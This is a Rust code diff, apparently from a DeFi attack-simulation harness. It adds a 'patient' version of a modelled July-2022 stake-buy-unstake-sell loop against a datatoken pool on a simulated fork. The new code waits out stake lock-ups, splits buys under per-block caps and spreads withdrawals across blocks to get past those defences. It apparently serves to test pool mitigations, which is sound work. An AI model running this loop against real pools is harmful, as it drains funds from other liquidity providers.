@@ -4,7 +4,8 @@
 //! - The rug-pulling publisher claims what it can, sells every datatoken it holds and
 //!   withdraws all its pool shares, all within one block.
 //! - The July-2022 attacker repeats stake → buy → unstake → sell within one block while each
-//!   loop profits, with a capital budget; its gain is the best it reached.
+//!   loop profits, with a capital budget; its gain is the best it reached. The patient
+//!   variant waits out lock-ups and per-block withdrawal limits on its fork.
 
 use tsynth_evm::{Address, U256, World};
 
@@ -119,14 +120,50 @@ pub fn rug_pull(
     Ok(h.base.saturating_sub(endowment))
 }
 
-/// The July-2022 loop by `attacker` holding `capital` base units, at most `max_loops` times.
-/// Returns the best net gain over the loop prefixes (it stops as soon as a loop does not pay).
+/// The July-2022 loop by `attacker` holding `capital` base units, at most `max_loops` times,
+/// all in one block. Returns the best net gain over the loop prefixes (it stops as soon as a
+/// loop does not pay).
 pub fn stake_loop(
     world: &mut World,
     c: &Contracts,
     attacker: Address,
     capital: U256,
     max_loops: u32,
+) -> Result<U256, Fatal> {
+    loop_with(world, c, attacker, capital, max_loops, None)
+}
+
+/// The patient July-2022 loop: like [`stake_loop`], but the attacker waits out a lock-up
+/// between its stake and the buy → unstake → sell (the lock only delays it), buys across
+/// blocks when a per-block buy cap refuses, and unstakes across blocks when a per-block
+/// withdrawal limit refuses (nobody trades on the fork in between, so the price it inflated
+/// stays) — the blind spots of a one-block script
+/// (`shared/reference/attacks.md`). `seconds_per_block` sets the warps.
+pub fn patient_stake_loop(
+    world: &mut World,
+    c: &Contracts,
+    attacker: Address,
+    capital: U256,
+    max_loops: u32,
+    seconds_per_block: u64,
+) -> Result<U256, Fatal> {
+    loop_with(
+        world,
+        c,
+        attacker,
+        capital,
+        max_loops,
+        Some(seconds_per_block),
+    )
+}
+
+fn loop_with(
+    world: &mut World,
+    c: &Contracts,
+    attacker: Address,
+    capital: U256,
+    max_loops: u32,
+    patience: Option<u64>,
 ) -> Result<U256, Fatal> {
     let mut counts = TxCounts::default();
     let mut h = Holdings {
@@ -154,10 +191,23 @@ pub fn stake_loop(
         };
         h.base -= stake_in;
         h.shares += shares;
+        if let Some(spb) = patience {
+            wait_out_lock(world, c, attacker, h.shares, spb)?;
+        }
         let pool_base = view(world, c.pool, &IDataPool::baseBalanceCall {})?;
         let buy_in = h.base.min(share_of(pool_base, MAX_TRADE_SHARE));
-        crate::agents::buy(world, c, attacker, &mut h, &mut counts, buy_in)?;
-        unstake_all(world, c, attacker, &mut h)?;
+        match patience {
+            Some(spb) => patient_buy(world, c, attacker, &mut h, buy_in, spb)?,
+            None => {
+                crate::agents::buy(world, c, attacker, &mut h, &mut counts, buy_in)?;
+            }
+        }
+        match patience {
+            Some(spb) => {
+                crate::probes::exit_all(world, c, attacker, &mut h, spb)?;
+            }
+            None => unstake_all(world, c, attacker, &mut h)?,
+        }
         sell_all(world, c, attacker, &mut h, &mut counts)?;
         let gain = h.base.saturating_sub(capital);
         if gain > best {
@@ -168,4 +218,81 @@ pub fn stake_loop(
         }
     }
     Ok(best)
+}
+
+/// If unstaking `shares` now would be refused by a lock-up, warps `world` past its end.
+fn wait_out_lock(
+    world: &mut World,
+    c: &Contracts,
+    who: Address,
+    shares: U256,
+    seconds_per_block: u64,
+) -> Result<(), Fatal> {
+    tsynth_sim::stats::count_call();
+    let call = IDataPool::unstakeCall { sharesIn: shares };
+    match world.dry_run_sol(who, c.pool, &call) {
+        Err(tsynth_evm::EvmError::Revert(r)) => {
+            if let Some(crate::agents::StakeLocked { until }) =
+                r.decode_custom::<crate::agents::StakeLocked>()
+            {
+                let until: u64 = until.saturating_to();
+                let wait = until.saturating_sub(world.timestamp()) + 1;
+                crate::probes::warp(world, wait, seconds_per_block);
+            }
+            Ok(())
+        }
+        Ok(_) | Err(tsynth_evm::EvmError::Halt { .. }) => Ok(()),
+        Err(source) => Err(Fatal {
+            what: "attacker lock check".into(),
+            source,
+        }),
+    }
+}
+
+/// Buys with `amount` base tokens across blocks when a per-block buy cap refuses: each block
+/// it buys what the cap still allows (`BuyCapExceeded.available`), at most 16 blocks.
+fn patient_buy(
+    world: &mut World,
+    c: &Contracts,
+    who: Address,
+    h: &mut Holdings,
+    amount: U256,
+    seconds_per_block: u64,
+) -> Result<(), Fatal> {
+    let mut left = amount.min(h.base);
+    let mut chunk = left;
+    for _ in 0..16 {
+        if left.is_zero() || chunk.is_zero() {
+            break;
+        }
+        let base_in = chunk.min(left);
+        let call = IDataPool::buyDtCall {
+            baseIn: base_in,
+            minDtOut: U256::ZERO,
+        };
+        tsynth_sim::stats::count_call();
+        match world.call_sol(who, c.pool, &call) {
+            Ok(dt) => {
+                h.base -= base_in;
+                h.dt += dt;
+                left -= base_in;
+            }
+            Err(tsynth_evm::EvmError::Revert(r)) => {
+                match r.decode_custom::<crate::agents::BuyCapExceeded>() {
+                    Some(cap) if !cap.available.is_zero() => chunk = cap.available,
+                    Some(_) => {}
+                    None => chunk /= U256::from(2),
+                }
+                crate::probes::warp(world, seconds_per_block, seconds_per_block);
+            }
+            Err(tsynth_evm::EvmError::Halt { .. }) => chunk /= U256::from(2),
+            Err(source) => {
+                return Err(Fatal {
+                    what: "attacker buy".into(),
+                    source,
+                });
+            }
+        }
+    }
+    Ok(())
 }
